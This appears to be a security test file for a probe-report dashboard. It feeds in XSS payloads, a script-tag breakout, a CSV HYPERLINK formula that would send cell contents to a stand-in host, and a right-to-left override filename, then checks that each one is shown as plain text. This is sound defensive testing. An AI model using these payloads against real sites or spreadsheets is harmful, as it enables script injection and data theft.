// Hosts name themselves, and reports contain what strangers said. None of it becomes markup, a script or a formula.
import assert from "node:assert/strict";
import fs from "node:fs";
import { after, before, test } from "node:test";
import { PostingProber } from "./harness/collector.mjs";
import { checkReport } from "./harness/prober.mjs";
import { endWorld, makeWorld } from "./harness/world.mjs";

const MARKUP = "<img src=x onerror=\"document.title='taken'\">";
const SCRIPT = "</script><script>document.title='taken'</script>";
const FORMULA = "=HYPERLINK(\"https://example.invalid/?\"&A1,\"ok\")";
const TURNED = "web01\u202Egnp.exe"; // the right-to-left override, which disguises names
let world;
let probers;
let flow;

before(async () => {
  world = await makeWorld();
  const report = await checkReport(world.collector.directory, "plain01", world);
  flow = report.findings[0].flow;
  // What a stranger's service answered, a target's name, a text: every place in a report that has words.
  const hostile = structuredClone(report);
  for (const finding of hostile.findings) {
    finding.text = `${SCRIPT} ${finding.text}`;
    finding.advice = `${MARKUP} ${finding.advice ?? ""}`;
    for (const address of finding.addresses) {
      address.path_end = { router: `${MARKUP} ${SCRIPT}`, hop: 1, of: 3, dropped: "here-or-after", way: "forward" };
      for (const span of address.spans) span.on_way = { kind: "router", address: MARKUP, hop: 1 };
    }
  }
  probers = {};
  for (const name of [MARKUP, FORMULA, TURNED]) {
    probers[name] = await PostingProber.enroll(world.collector, name, { site: name });
    await probers[name].post({ ...hostile, host: name });
  }
});
after(() => endWorld(world));

test("hostile names and texts are shown as text, on every page", async () => {
  const visit = await world.browser.visit("/");
  const title = () => visit.page.title();
  for (const [page, where] of Object.entries({
    overview: "/#/", host: `/#/hosts/${probers[MARKUP].id}`, flow: `/#/flows/${encodeURIComponent(flow)}`, probers: "/#/probers",
    overviewOfSite: `/#/?site=${encodeURIComponent(MARKUP)}`, search: `/#/?q=${encodeURIComponent(MARKUP)}`,
  })) {
    await visit.open(where);
    await visit.until(`${page} shows the name as text`, (text) => document.querySelector("main")?.innerText.includes(text), MARKUP);
    assert.equal(await visit.page.evaluate(() => document.querySelectorAll("img[src=x], img[onerror], main script").length), 0, page);
    assert.notEqual(await title(), "taken", page);
  }
  await visit.open(`/#/hosts/${probers[MARKUP].id}`);
  await visit.until("the text of the finding is there, as text", (text) => document.body.innerText.includes(text), SCRIPT);
  await visit.end();
});

test("an address made by a stranger leads nowhere else and runs nothing", async () => {
  const visit = await world.browser.visit("/");
  for (const where of [`/#/hosts/${encodeURIComponent(MARKUP)}`, `/#/flows/${encodeURIComponent(SCRIPT)}`, `/#/${MARKUP}`, "/#/%E0%A4%A",
    `/#/login?back=${encodeURIComponent("https://example.invalid/")}`, `/#/?by=${encodeURIComponent(MARKUP)}`]) {
    await visit.open(where);
    await visit.until(`something is shown for ${where}`, () => (document.querySelector("main")?.innerText.length ?? 0) > 20);
    assert.equal(new URL(visit.page.url()).origin, world.collector.origin);
    assert.notEqual(await visit.page.title(), "taken");
  }
  await visit.end(/Failed to load resource: the server responded with a status of 4\d\d/);
});

// RFC 4180, as a spreadsheet reads it.
function parseCsv(text) {
  const rows = [[]];
  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r?\n|$)/g)) {
    rows.at(-1).push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end !== ",") rows.push([]);
    if (end === "") break;
  }
  return rows.filter((row) => row.length > 1 || row[0]);
}

test("the CSV file has what the API has, and no formula", async () => {
  const visit = await world.browser.visit("/#/probers");
  await visit.untilShown("probers");
  const [download] = await Promise.all([visit.page.waitForEvent("download"), visit.page.getByRole("button", { name: "Export CSV" }).first().click()]);
  assert.match(download.suggestedFilename(), /\.csv$/);
  const bytes = fs.readFileSync(await download.path());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], "without a byte order mark Excel does not read UTF-8");
  const [header, ...rows] = parseCsv(bytes.subarray(3).toString("utf8"));
  const items = await world.collector.all("/api/v1/probers");
  // Every column is named as the API names it; lists are words with blanks between them.
  const inFile = (value) => {
    const text = Array.isArray(value) ? value.join(" ") : String(value ?? "");
    return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
  };
  const sorted = (table) => table.map((row) => JSON.stringify(row)).sort();
  assert.ok(header.includes("host") && header.includes("site") && header.includes("stale"), String(header));
  assert.deepEqual(sorted(rows), sorted(items.map((item) => header.map((name) => inFile(item[name])))));
  assert.deepEqual(rows.flat().filter((field) => /^[=+\-@\t\r]/.test(field)), [], "fields that a spreadsheet would run");
  await visit.end();
});
